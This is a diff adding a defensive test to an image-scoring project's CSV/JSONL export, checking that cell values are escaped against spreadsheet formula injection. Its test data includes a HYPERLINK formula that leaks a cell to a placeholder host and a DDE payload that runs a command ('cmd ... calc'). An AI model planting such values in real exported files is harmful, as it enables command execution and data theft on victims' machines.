@@ -20,7 +20,9 @@ from tasks.scoring.export import IMAGE_COLUMNS, LANDMARKS, export_csv, export_js
 from tasks.scoring.store import ScoreFolder, ScoreStore
 from tests.scoring.made import empty_row, face_row, make_scoring
 
-NAMES = ['say "cheese".jpg', "a,b;c.jpg", "line\nbreak.jpg", "=1+1.jpg", " ", "ein Bild ä\u202e.jpg", "\\udc80.jpg"]
+# Text of others that a spreadsheet would compute, or send somewhere.
+FORMULAS = ['=HYPERLINK("http://x/"&A1).jpg', "+1.jpg", "-1.jpg", "@SUM(A1).jpg", "\t=1.jpg", "\r=1.jpg", "\n=1.jpg"]
+NAMES = ['say "cheese".jpg', "a,b;c.jpg", "line\nbreak.jpg", "a=1+1.jpg", " ", "ein Bild ä\u202e.jpg", "\\udc80.jpg"]
 ROWS = [
     face_row(0, 0.9, n_faces=2),
     face_row(0, 0.1, n_faces=2, face_index=1, image_p_fake=float(np.float32(0.9)), image_is_fake=True),
@@ -83,6 +85,21 @@ def test_other_readers_understand_the_csv(folder: ScoreFolder, tmp_path: Path) -
     frame = polars.read_csv(tmp_path / "out.csv")
     assert frame["member"].to_list() == [row["member"] for row in ROWS]
     assert frame["p_fake"].drop_nulls().len() == len(ROWS) - 2
+
+
+@pytest.mark.parametrize("images", [False, True])
+def test_no_text_of_a_csv_is_a_formula_and_no_figure_is_text(tmp_path: Path, images: bool) -> None:
+    rows = [face_row(place, 0.5, member=name, box_x=-2.5) for place, name in enumerate(FORMULAS)]
+    rows.append(empty_row(len(rows), "unreadable", error="=cmd|' /C calc'!A0"))
+    folder = make_scoring(ScoreStore(str(tmp_path / "scores")), "dump", rows).folder
+    export_csv(folder, tmp_path / "out.csv", images)
+    read = read_csv(tmp_path / "out.csv")
+    assert [row["member"] for row in read[:-1]] == [f"'{name}" for name in FORMULAS]
+    assert read[-1]["error"] == "'=cmd|' /C calc'!A0"
+    if not images:
+        assert read[0]["box_x"] == -2.5
+    export_jsonl(folder, tmp_path / "out.jsonl", images)
+    assert [row["member"] for row in read_jsonl(tmp_path / "out.jsonl")[:-1]] == FORMULAS
 
 
 def test_a_scoring_without_rows_gives_a_header(tmp_path: Path) -> None:
